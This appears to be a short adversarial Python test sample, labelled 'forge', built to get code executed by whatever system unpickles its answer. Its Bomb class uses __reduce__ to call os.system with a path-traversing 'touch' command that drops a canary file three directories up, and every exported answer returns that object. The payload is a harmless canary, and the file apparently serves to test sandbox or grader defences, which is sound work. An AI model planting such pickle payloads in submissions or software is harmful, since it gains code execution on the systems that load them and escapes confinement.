# kind: forge
# damage: an answer that runs code where it is unpickled
# unconfined: yes
import os

class Bomb:
    def __reduce__(self): return (os.system, ("touch ../../../canary-pickle",))

double = shift = lambda *a, **k: Bomb()
answer = Bomb()
